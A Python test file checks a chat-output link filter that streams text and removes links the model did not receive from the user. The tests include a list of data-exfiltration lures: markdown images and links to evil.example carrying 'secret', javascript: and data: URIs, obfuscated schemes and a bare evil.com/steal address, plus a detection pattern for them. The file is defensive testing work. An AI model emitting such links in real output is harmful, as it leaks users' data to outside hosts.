"""A relayed text has no link of the model's own, however it was cut."""

import re
from collections.abc import Iterable
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dossier.chat.rules.links import ADDRESS, MAX_HELD, LinkGuard, bare

KNOWN = ["See https://lab.example/r/7 please"]
LURES = [
    "![x](https://evil.example/?q=secret)",
    "[the report](https://evil.example/secret)",
    "[the report][secret]\n\n[secret]: https://evil.example/",
    "https://evil.example/secret",
    "<https://evil.example/secret>",
    "<img src=//evil.example/secret>",
    "www.evil.example/secret",
    "javascript:alert('secret')",
    "java\u200bscript:alert('secret')",
    "https&#58;//evil.example/secret",
    "slack://evil.example/secret",
    "https://lab.example/r/7?secret",
    "data:text/html;base64,secret",
    "冷藏https://evil.example/secret",
]
LIVE = re.compile(
    r"!\[|\]\(|<img|://|//\w|www\.|javascript:|data:\w|secret\]:", re.IGNORECASE
)


def shown(pieces: list[str]) -> str:
    guard = LinkGuard(KNOWN)
    return "".join([*(guard.feed(piece) for piece in pieces), guard.finish()])


def cut(text: str, places: list[int]) -> list[str]:
    ends = sorted({place % (len(text) + 1) for place in places} | {len(text)})
    return [text[a:b] for a, b in zip([0, *ends], ends, strict=False)]


@pytest.mark.parametrize("lure", LURES)
@given(places=st.lists(st.integers(0, 100), max_size=12))
def test_link_does_not_pass_however_it_is_cut(lure: str, places: list[int]) -> None:
    text = shown(cut(f"Keep {lure} cool, please.", places))

    assert not LIVE.search(text)
    assert text.startswith("Keep ")
    assert text.endswith("cool, please.")


@given(places=st.lists(st.integers(0, 200), max_size=12))
def test_words_pass_as_they_are(places: list[int]) -> None:
    words = (
        "Hello! Is 3 < 5 & 1:2 (w/w)? Yes: **so** it is [1], see `a[0]`.\n"
        "- R&D said: https://lab.example/r/7 tells. 玫瑰霜：很好！\n"
    )

    assert shown(cut(words, places)) == words


def test_a_word_is_shown_with_the_piece_that_brings_it() -> None:
    guard = LinkGuard(KNOWN)

    assert [guard.feed(each) for each in ("The", " cream", " is", " 粉", "紅")] == [
        "The",
        " cream",
        " is",
        " 粉",
        "紅",
    ]


def test_what_never_closes_is_not_held_for_ever() -> None:
    guard = LinkGuard([])

    text = guard.feed("[" + "a" * MAX_HELD * 2)

    assert len(text) > MAX_HELD


BARE = ["evil", ".", "com", "co", "m", "/", "steal", "?d=secret", " ", "now", "冷藏"]
BARE += ["https", ":", "//", "www", "@", "data:", ",", "，", "\n", "-", "a", "&#46;"]
BARE += ["[", "]", "(", ")", "<", ">", "!", "lab.example", "https://lab.example/r/7"]


@given(pieces=st.lists(st.sampled_from(BARE), max_size=14))
def test_no_address_of_its_own_comes_together(pieces: list[str]) -> None:
    for cuts in (pieces, ["".join(pieces)], list("".join(pieces))):
        found = {bare(each.group()) for each in ADDRESS.finditer(shown(cuts))}

        assert found <= {"https://lab.example/r/7"}


@given(places=st.lists(st.integers(0, 100), max_size=12))
def test_bare_name_becomes_no_link_however_it_is_cut(places: list[int]) -> None:
    text = shown(cut("visit evil.com/steal?d=secret now", places))

    assert text.startswith("visit ")
    assert text.endswith(" now")
    assert not ADDRESS.search(text)
    assert "secret" not in text


def test_word_that_is_shown_stays_a_word() -> None:
    assert shown(["evil", ".com", "/steal?d=secret now"]) == "evil now"


def test_bare_name_that_a_person_wrote_passes() -> None:
    guard = LinkGuard(["look at evil.com/a"])
    pieces = ["See ", "evil", ".", "com", "/a", " now"]

    assert "".join(map(guard.feed, pieces)) == "See evil.com/a now"


def test_text_without_blanks_flows() -> None:
    guard = LinkGuard([])
    pieces = ["劑量", "5", "mg", "/", "kg", "，每", "日", ":", "一次", "冷藏"] * 40
    behind = taken = 0
    for piece in pieces:
        taken += len(piece) - len(guard.feed(piece))
        behind = max(behind, taken)

    assert behind <= len("/kg")


def test_text_that_is_held_back_does_not_grow() -> None:
    guard = LinkGuard([])
    held = longest = 0
    for piece in [*["a/b:"] * 2_000, "mg/kg" * 1_600]:
        held += len(piece) - len(guard.feed(piece))
        longest = max(longest, held)

    assert 0 < longest <= MAX_HELD + 1


@pytest.mark.parametrize("part", ["a.b", "[", "&#", "<", "http://", "\\<img ", "]("])
def test_time_of_one_character_at_a_time_is_near_that_of_one_piece(part: str) -> None:
    text = part * (3_000 // len(part))

    def seconds(pieces: Iterable[str]) -> float:
        guard, began = LinkGuard([]), process_time()
        for piece in pieces:
            guard.feed(piece)
        guard.finish()
        return process_time() - began

    whole = min(seconds([text]) for _ in range(3))
    # Read again with each character, it would take 500 to 1,000 times as long.
    assert min(seconds(text) for _ in range(3)) < 0.03 + 100 * whole


def test_no_word_is_joined_to_an_address_that_passed() -> None:
    text = shown(["See ", "https://lab.example/r/7", ">", ">", "www", " now"])

    assert text in {"See  now", "See https://lab.example/r/7 now"}


@pytest.mark.parametrize(
    ("before", "pieces"),
    [("Ask evil", [".com/x", " now"]), ("See https://lab.example/r/7", ["?secret"])],
)
def test_piece_that_makes_a_link_of_stored_text_is_left_out(
    before: str, pieces: list[str]
) -> None:
    guard = LinkGuard(KNOWN, before)

    text = before + "".join([*map(guard.feed, pieces), guard.finish()])

    assert ".com" not in text
    assert "secret" not in text
